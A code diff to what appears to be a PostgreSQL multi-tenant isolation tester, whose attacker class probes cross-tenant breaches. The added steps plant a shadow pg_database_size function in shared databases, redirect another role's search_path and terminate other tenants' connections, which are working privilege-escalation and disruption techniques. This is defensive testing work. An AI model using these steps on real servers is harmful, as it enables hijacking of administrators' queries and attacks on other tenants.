@@ -64,6 +64,16 @@ MORE: Final = (
 )
 """Questions whose every answer is a breach."""
 
+_COMMON: Final = """
+SELECT datname FROM pg_database WHERE datallowconn AND (datistemplate OR datname = 'postgres')
+  AND has_database_privilege(oid, 'CONNECT') AND datname <> ALL (ARRAY[%s, %s]) ORDER BY oid LIMIT 4"""
+"""Databases that are nobody's and that this role may enter, as PostgreSQL lets everybody by default."""
+
+_SHADOW: Final = sql.SQL(
+    "CREATE FUNCTION public.pg_database_size(text) RETURNS bigint LANGUAGE sql AS 'SELECT 1::bigint'"
+)
+"""What stands before the server's own function for whoever does not name its schema and passes text."""
+
 BY_DESIGN: Final = (
     (
         "see the names of other databases",
@@ -98,9 +108,10 @@ class Attacker:
             if me is not None and me[0] != self._user:
                 found += [self._step(connection, *step) for step in self._as_them()]
             found += [self._step(connection, *step) for step in (*SERVER, *self._led_out())]
-            found += [self._question(connection, what, query, promised=True) for what, query in MORE]
-            found += [self._question(connection, what, query, promised=False) for what, query in BY_DESIGN]
+            found += [asked(self._name, connection, what, query) for what, query in MORE]
+            found += [asked(self._name, connection, what, query, promised=False) for what, query in BY_DESIGN]
             found += [self._change_the_server(connection), *self._disturb(connection, victim)]
+            found += self._shadow(connection)
         finally:
             connection.close()
         return found
@@ -110,13 +121,16 @@ class Attacker:
         try:
             connection = self._connect(self._other)
         except psycopg.OperationalError as error:
-            refused = "permission denied" in str(error) or "pg_hba" in str(error)
-            return (Attempt if refused else Untried)(self._name, what, line(error))
+            return self._not_let_in(what, error)
         try:
             (count,) = connection.execute("SELECT count(*) FROM pg_class WHERE relkind = 'r'").fetchone() or (0,)
             return Breach(self._name, what, f"{count} tables seen in {self._other}")
         finally:
             connection.close()
+
+    def _not_let_in(self, what: str, error: psycopg.OperationalError) -> Attempt:
+        refused = "permission denied" in str(error) or "pg_hba" in str(error)  # such errors carry no code
+        return (Attempt if refused else Untried)(self._name, what, line(error))
 
     def _as_them(self) -> Iterator[Step]:
         """Become the other, or get what it has."""
@@ -134,6 +148,8 @@ class Attacker:
         )
         yield "rename it", sql.SQL("ALTER DATABASE {} RENAME TO {}").format(database, sql.Identifier(TRACE))
         yield "change its settings", sql.SQL("ALTER DATABASE {} SET work_mem TO '64kB'").format(database)
+        path = sql.SQL("ALTER ROLE {} SET search_path TO {}").format(role, sql.Identifier(TRACE))
+        yield "lead its search path elsewhere", path
         yield "measure it", sql.SQL("SELECT pg_database_size({})").format(self._other)
 
     def _led_out(self) -> Iterator[Step]:
@@ -148,6 +164,23 @@ class Attacker:
             ).format(f"dbname={self._other}"),
         )
 
+    def _shadow(self, connection: Connection) -> Iterator[Attempt]:
+        """Make functions in databases that all may enter: for administrators, or for what is made of them, to run."""
+        try:
+            common = connection.execute(_COMMON, [self._own, self._other]).fetchall()
+        except psycopg.Error as error:
+            yield Untried(self._name, "shadow functions", line(error))
+            return
+        for (database,) in common:
+            what = f"shadow functions in {database}"
+            try:
+                inner = self._connect(database)
+            except psycopg.OperationalError as error:
+                yield self._not_let_in(what, error)
+                continue
+            with inner:
+                yield self._step(inner, what, _SHADOW)
+
     def _step(self, connection: Connection, what: str, statement: Statement) -> Attempt:
         try:
             with connection.transaction(force_rollback=True):
@@ -156,17 +189,8 @@ class Attacker:
                     pass
                 row = cursor.fetchone() if cursor.description else None
         except psycopg.Error as error:
-            return (Attempt if error.sqlstate in REFUSED else Untried)(self._name, what, line(error))
+            return stopped(self._name, what, error)
         return Breach(self._name, what, f"it gave {row[0]!r}" if row else "it was done")
-
-    def _question(self, connection: Connection, what: str, query: str, *, promised: bool) -> Attempt:
-        try:
-            row = connection.execute(query.encode()).fetchone()
-        except psycopg.Error as error:
-            return Untried(self._name, what, line(error))
-        if row is None or not row[0] or str(row[0]).startswith("0 "):
-            return Attempt(self._name, what, "there is nothing")
-        return Breach(self._name, what, str(row[0])[:300], promised)
 
     def _change_the_server(self, connection: Connection) -> Attempt:
         """A setting that nobody sets is put back to what it is; this cannot be rolled back."""
@@ -174,8 +198,17 @@ class Attacker:
         try:
             connection.execute("ALTER SYSTEM SET application_name TO DEFAULT")
         except psycopg.Error as error:
-            return (Attempt if error.sqlstate in REFUSED else Untried)(self._name, what, line(error))
+            return stopped(self._name, what, error)
         return Breach(self._name, what, "ALTER SYSTEM was done")
+
+    def _terminate(self, connection: Connection, what: str, process: int) -> Attempt:
+        try:
+            row = connection.execute("SELECT pg_terminate_backend(%s)", [process]).fetchone()
+        except psycopg.Error as error:
+            return stopped(self._name, what, error)
+        if row == (True,):
+            return Breach(self._name, what, "it was done")
+        return Untried(self._name, what, "the other's connection was gone already")
 
     def _disturb(self, connection: Connection, victim: Callable[[], Connection]) -> Iterator[Attempt]:
         """End a connection of the other's, hold its locks, talk into its channels."""
@@ -186,7 +219,7 @@ class Attacker:
             yield from (Untried(self._name, what, line(error)) for what in (end, lock, notify))
             return
         try:
-            ask = sql.SQL("SELECT pg_terminate_backend({})").format(theirs.info.backend_pid)
+            process = theirs.info.backend_pid
             number, channel = secrets.randbits(62), f"{TRACE}_{secrets.token_hex(8)}"  # others attack meanwhile
             theirs.execute(sql.SQL("LISTEN {}").format(sql.Identifier(channel)))
             connection.execute("SELECT pg_advisory_lock(%s)", [number])
@@ -197,7 +230,9 @@ class Attacker:
             same = "a lock of the same number is the same lock"
             yield Breach(self._name, lock, same) if held else Attempt(self._name, lock)
             yield Breach(self._name, notify, "one was heard there") if heard else Attempt(self._name, notify)
-            yield self._step(connection, end, ask)
+            yield self._terminate(connection, end, process)
+        except psycopg.Error as error:  # it is gone: its tenant is being destroyed, or the server went down
+            yield from (Untried(self._name, what, line(error)) for what in (end, lock, notify))
         finally:
             with suppress(psycopg.Error):
                 theirs.close()
@@ -206,3 +241,19 @@ class Attacker:
 def line(error: Exception) -> str:
     """An error in one line."""
     return " ".join(str(error).split())[:200]
+
+
+def stopped(name: str, what: str, error: psycopg.Error) -> Attempt:
+    """An attempt that the server did not let through: refused, or not tried at all."""
+    return (Attempt if error.sqlstate in REFUSED else Untried)(name, what, line(error))
+
+
+def asked(name: str, connection: Connection, what: str, query: str, *, promised: bool = True) -> Attempt:
+    """What came of a question whose every answer is a breach."""
+    try:
+        row = connection.execute(query.encode()).fetchone()
+    except psycopg.Error as error:
+        return Untried(name, what, line(error))
+    if row is None or not row[0] or str(row[0]).startswith("0 "):
+        return Attempt(name, what, "there is nothing")
+    return Breach(name, what, str(row[0])[:300], promised)
